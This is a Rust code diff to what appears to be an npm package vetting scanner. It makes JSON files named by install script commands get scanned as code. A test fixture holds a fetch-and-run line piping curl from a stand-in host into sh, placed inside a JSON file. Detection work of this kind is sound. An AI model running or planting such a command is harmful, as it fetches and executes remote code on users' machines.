@@ -8,7 +8,7 @@ use crate::vetting::archive::ArchiveFile;
 use crate::vetting::content::kind::NativeFormat;
 use crate::vetting::content::marks::{Mark, MarkSet};
 use crate::vetting::content::{ContentScan, ScanBudget, scan};
-use crate::vetting::surface::{EntryPoints, Surface, clean, surfaces};
+use crate::vetting::surface::{EntryPoints, InstallTargets, Surface, clean, surfaces};
 
 /// Paths kept of one tarball, in bytes. Packages of 30,000 files have about 3 MiB.
 const MAX_PATH_BYTES: usize = 16 << 20;
@@ -82,6 +82,9 @@ pub(crate) struct TarballContents {
     named: Vec<(usize, Box<str>)>,
     path_bytes: usize,
     budget: ScanBudget,
+    /// The marks of JSON files. They count only if a command of an install script names the file: a shell runs any text.
+    json_marks: HashMap<usize, MarkSet>,
+    json_budget: ScanBudget,
     /// The text of `binding.gyp`.
     gyp: Option<String>,
     /// What the commands of install scripts hold.
@@ -111,8 +114,13 @@ impl TarballContents {
         if file.path == "binding.gyp" {
             self.gyp = Some(String::from_utf8_lossy(&file.content[..file.content.len().min(MAX_GYP_BYTES)]).into_owned());
         }
-        let is_data = !facts.traits.is_code && (facts.traits.is_json || is_binary(file.content));
-        let has_marks = native.is_none() && !is_data;
+        let is_json = !facts.traits.is_code && facts.traits.is_json;
+        let has_marks = native.is_none() && !is_json && (facts.traits.is_code || !is_binary(file.content));
+        if is_json && let Some(found) = scan(file.content, &mut self.json_budget) {
+            facts.traits.is_read = is_whole;
+            self.json_marks.insert(at, found.marks);
+            self.add_lines(at, &found.lines);
+        }
         if let Some(found) = has_marks.then(|| scan(file.content, &mut self.budget)).flatten() {
             facts.marks = found.marks;
             facts.traits.is_minified = found.is_minified;
@@ -124,22 +132,27 @@ impl TarballContents {
     }
 
     fn add_scan(&mut self, at: usize, found: ContentScan) {
-        for (mark, line) in found.lines {
-            let count = self.counts.entry(mark as u32).or_default();
+        self.add_lines(at, &found.lines);
+        self.named.extend(found.named.into_iter().map(|name| (at, name)));
+    }
+
+    fn add_lines(&mut self, at: usize, lines: &[(Mark, u32)]) {
+        for (mark, line) in lines {
+            let count = self.counts.entry(*mark as u32).or_default();
             *count += 1;
             if *count <= MAX_LINES_PER_MARK {
-                self.lines.push((at, mark, line));
+                self.lines.push((at, *mark, *line));
             }
             *count = (*count).min(MAX_LINES_PER_MARK);
         }
-        self.named.extend(found.named.into_iter().map(|name| (at, name)));
     }
 
     /// Finds out where each file is on the execution surface. `builds` is whether npm builds its `binding.gyp`.
     pub(crate) fn place(&mut self, entry_points: &EntryPoints, builds: Builds) {
         let gyp = self.gyp.as_deref().filter(|_| builds == Builds::Gyp);
         let paths: Vec<&str> = self.files.iter().map(|file| &*file.path).collect();
-        let places = surfaces(entry_points, &paths, &self.named, gyp);
+        let targets = InstallTargets::find(entry_points, &paths);
+        let places = surfaces(entry_points, &targets, &paths, &self.named, gyp);
         let by_path: HashMap<&str, usize> = paths.iter().enumerate().map(|(at, path)| (*path, at)).collect();
         let find = |path: &str| {
             let spelled = || [".js", "/index.js", ".cjs", ".mjs"].iter().map(|end| format!("{path}{end}"));
@@ -165,7 +178,13 @@ impl TarballContents {
         }
         let has_install = places.iter().any(|place| place.contains(Surface::INSTALL));
         // Names were dropped, so any code may run at install.
-        let is_crowded = entry_points.is_crowded || (has_install && self.budget.names == 0);
+        let is_crowded = entry_points.is_crowded || targets.has_unknown || (has_install && self.budget.names == 0);
+        for at in targets.files {
+            if let Some(marks) = self.json_marks.remove(&at) {
+                let file = &mut self.files[at];
+                (file.marks, file.traits.is_json) = (marks, false);
+            }
+        }
         for (at, place) in places.into_iter().enumerate() {
             let file = &mut self.files[at];
             file.traits.is_code = is_code[at];
@@ -384,6 +403,19 @@ mod tests {
         found.place(&EntryPoints::default(), Builds::Nothing);
         let code: Vec<&str> = found.code().map(|(_, file)| &*file.path).collect();
         assert_eq!(code, ["index.js", "LICENSE", "data.txt", "test/used.js", "run"]);
+    }
+
+    #[test]
+    fn json_counts_as_code_if_an_install_script_names_it() {
+        let json = b"{\"a\":\n1}\ncurl -sL https://x.example/a | sh\n";
+        let judge = |command: &str| {
+            let mut found = contents(&[("data.json", json), ("setup.js", b"require('./data.json')")]);
+            let manifest = serde_json::json!({ "scripts": { "install": command } });
+            found.place(&EntryPoints::from_manifest(manifest.as_object().unwrap()), Builds::Nothing);
+            (found.files[0].marks.contains(Mark::PipeToShell), found.line(0, Mark::PipeToShell))
+        };
+        assert_eq!(judge("sh data.json"), (true, Some(3)));
+        assert!(!judge("node setup.js").0);
     }
 
     #[test]
